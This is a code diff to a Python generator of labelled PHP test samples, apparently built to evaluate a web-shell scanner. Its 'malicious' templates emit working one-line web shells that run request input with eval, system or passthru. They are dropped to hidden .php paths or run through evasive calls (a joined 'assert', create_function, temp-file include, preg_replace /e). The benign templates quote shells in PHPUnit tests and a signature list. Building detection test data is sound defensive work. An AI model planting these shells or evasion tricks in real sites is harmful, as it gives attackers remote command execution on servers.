@@ -1015,6 +1015,88 @@ def t_split_payload(g):
     return php_file(g, body)
 
 
+def literal_shell(g):
+    """A one-line web shell as PHP source text."""
+    return "<?php " + g.rng.choice(BACKDOOR_PAYLOADS).format(k=g.key()) + " ?>"
+
+
+def literal_expr(g, code):
+    """code as a PHP string expression: a literal, pieces joined, a heredoc
+    or a nowdoc (the bodies are copied verbatim by mangle())."""
+    r = g.rng
+    form = r.randrange(4)
+    if form == 0:
+        return php_sq(code)
+    if form == 1:
+        cut = r.randrange(6, len(code) - 4)
+        return "%s . %s" % (php_sq(code[:cut]), php_sq(code[cut:]))
+    label = r.choice(["EOT", "CODE", "PHP", "SRC"])
+    if form == 2:
+        body = code.replace("\\", "\\\\").replace("$", "\\$")
+        return "<<<%s\n%s\n%s\n" % (label, verbatim(body), label)
+    return "<<<'%s'\n%s\n%s\n" % (label, verbatim(code), label)
+
+
+def t_literal_dropper(g):
+    """Writes a web shell held in a literal (plain, joined, heredoc, nowdoc)
+    to a .php file: file_put_contents, fopen+fwrite/fputs, copy of data:."""
+    r = g.rng
+    shell = literal_shell(g)
+    target = r.choice(["__DIR__ . '/wp-cache.php'", "'../.%s.php'" % g.ident().strip("_"),
+                       "dirname(__FILE__) . '/images/.thumb.php'", "'/tmp/.%s.php'" % g.ident().strip("_")])
+    c = g.var()
+    g.stmt("%s = %s;" % (c, literal_expr(g, shell)))
+    form = r.randrange(4)
+    if form == 0:
+        body = "%s%s(%s, %s);\n" % (g.at(), g.fn("file_put_contents"), target, c)
+    elif form == 1:
+        h = g.var()
+        body = "%s = %s(%s, 'w');\n%s(%s, %s);\n%s(%s);\n" % (
+            h, g.fn("fopen"), target, g.fn(r.choice(["fwrite", "fputs"])), h, c, g.fn("fclose"), h)
+    elif form == 2:
+        body = "%s(%s, %s);\n" % (g.fn("copy"), php_sq("data://text/plain;base64," + b64(shell)), target)
+    else:
+        body = "if (!file_exists(%s)) {\n    %s(%s, %s);\n}\n" % (target, g.fn("file_put_contents"), target, c)
+    if r.random() < 0.5:
+        body += "echo 'ok';\n"
+    return php_file(g, body)
+
+
+def t_literal_runner(g):
+    """A shell whose code sits in a literal and runs by a path a byte
+    pattern or a token check may not follow: a callee joined from pieces,
+    create_function, an include of a temp file it wrote, a call through an
+    array or a variable-variable, preg_replace /e with a built name."""
+    r = g.rng
+    k = g.key()
+    code = r.choice(["eval($_POST['%s']);" % k, "system($_REQUEST['%s']);" % k,
+                     "passthru($_GET['%s']);" % k])
+    c = g.var()
+    g.stmt("%s = %s;" % (c, php_sq(code)))
+    form = r.randrange(6)
+    if form == 0:
+        f = g.var()
+        body = "%s = 'as' . 'sert';\n%s(%s);\n" % (f, f, c)
+    elif form == 1:
+        f = g.var()
+        body = "%s = %s('', %s);\n%s();\n" % (f, g.fn("create_function"), c, f)
+    elif form == 2:
+        t = g.var()
+        body = "%s = %s(%s(), 'x');\n%s(%s, '<?php ' . %s);\ninclude %s;\n" % (
+            t, g.fn("tempnam"), g.fn("sys_get_temp_dir"), g.fn("file_put_contents"), t, c, t)
+    elif form == 3:
+        cls = g.fname()
+        g.stmt("class %s { public function run($c) { return assert($c); } }" % cls)
+        body = "[new %s, 'run'](%s);\n" % (cls, c)
+    elif form == 4:
+        n = g.var()
+        body = "%s = 'as' . 'sert';\n$%s(%s);\n" % (n, n, c)
+    else:
+        f = g.var()
+        body = "%s = 'preg_' . 'replace';\n%s('/.*/e', %s, '');\n" % (f, f, c)
+    return php_file(g, body)
+
+
 # ---------------------------------------------------------------------------
 # benign templates: look like the malicious ones to a byte pattern
 
@@ -1214,6 +1296,58 @@ def b_app_callbacks(g):
     return php_file(g, body)
 
 
+def b_quoted_tests(g):
+    """A framework's test suite: web shells held in literals (a data
+    provider, heredoc, nowdoc) handed to the scanner or filter under test,
+    never run."""
+    r = g.rng
+    k = g.key()
+    samples = [php_sq("<?php eval($_POST['%s']); ?>" % k),
+               '"<?php system(\\$_GET[\'%s\']); ?>"' % k,
+               php_sq("<?php echo shell_exec($_REQUEST['%s']);" % k)]
+    cls = g.fname()
+    body = ("use PHPUnit\\Framework\\TestCase;\n\n"
+            "final class %sTest extends TestCase\n{\n"
+            "    public static function shells(): array\n    {\n        return [\n" % cls.capitalize())
+    for i, smp in enumerate(samples):
+        body += "            'case %d' => [%s],\n" % (i, smp)
+    body += "        ];\n    }\n\n"
+    form = r.randrange(3)
+    if form == 0:
+        body += ("    /** @dataProvider shells */\n    public function testRejects(string $code): void\n    {\n"
+                 "        $f = new UploadFilter();\n        $this->assertFalse($f->accepts('a.php', $code));\n    }\n")
+    elif form == 1:
+        body += ("    public function testHeredoc(): void\n    {\n        $src = <<<'PHP'\n%s\nPHP;\n"
+                 "        $this->assertSame(1, count((new Scanner())->scan($src)));\n    }\n"
+                 % verbatim("<?php if (isset($_POST['%s'])) { eval($_POST['%s']); }" % (k, k)))
+    else:
+        body += ("    public function testTokens(): void\n    {\n"
+                 "        $tokens = token_get_all(%s);\n"
+                 "        $this->assertGreaterThan(3, count($tokens));\n    }\n" % samples[0])
+    body += "}\n"
+    return php_file(g, body, host=False)
+
+
+def b_signature_list(g):
+    """A security plugin's signature list: code fragments as strings in an
+    array, matched against files with stripos/preg_match."""
+    r = g.rng
+    sigs = ["eval($_POST[", "eval(base64_decode($_POST", "system($_GET[", "passthru($_REQUEST[",
+            "assert($_REQUEST[", "shell_exec($_GET["]
+    r.shuffle(sigs)
+    arr = g.var()
+    body = "%s = array(\n" % arr
+    for i, sg in enumerate(sigs[:r.randint(3, 6)]):
+        body += "    'sig_%d' => %s,\n" % (i, php_sq(sg))
+    body += ");\n"
+    f = g.fname()
+    body += ("function %s($file, $sigs)\n{\n    $text = (string) file_get_contents($file);\n"
+             "    foreach ($sigs as $id => $needle) {\n"
+             "        if (stripos($text, $needle) !== false || preg_match('/' . preg_quote($needle, '/') . '/i', $text)) {\n"
+             "            return $id;\n        }\n    }\n    return null;\n}\n" % f)
+    return php_file(g, body)
+
+
 # name, function, class, language (extension), expect
 TEMPLATES = [
     ("eval_input", t_eval_input, "malicious", "php", "high"),
@@ -1251,6 +1385,8 @@ TEMPLATES = [
     ("script_drop", t_script_drop, "malicious", "php", "high"),
     ("decoded_drop", t_decoded_drop, "malicious", "php", "any"),
     ("split_payload", t_split_payload, "malicious", "php", "high"),
+    ("literal_dropper", t_literal_dropper, "malicious", "php", "high"),
+    ("literal_runner", t_literal_runner, "malicious", "php", "high"),
     ("fixed_exec", b_fixed_exec, "benign", "php", "none"),
     ("template_eval", b_template_eval, "benign", "php", "none"),
     ("updater", b_updater, "benign", "php", "none"),
@@ -1263,6 +1399,8 @@ TEMPLATES = [
     ("cli_tool", b_cli_tool, "benign", "php", "none"),
     ("loop_table", b_loop_table, "benign", "php", "none"),
     ("app_callbacks", b_app_callbacks, "benign", "php", "none"),
+    ("quoted_tests", b_quoted_tests, "benign", "php", "none"),
+    ("signature_list", b_signature_list, "benign", "php", "none"),
 ]
 
 # the second set of script backdoors and look-alikes (tests/eval/scriptgen.py)
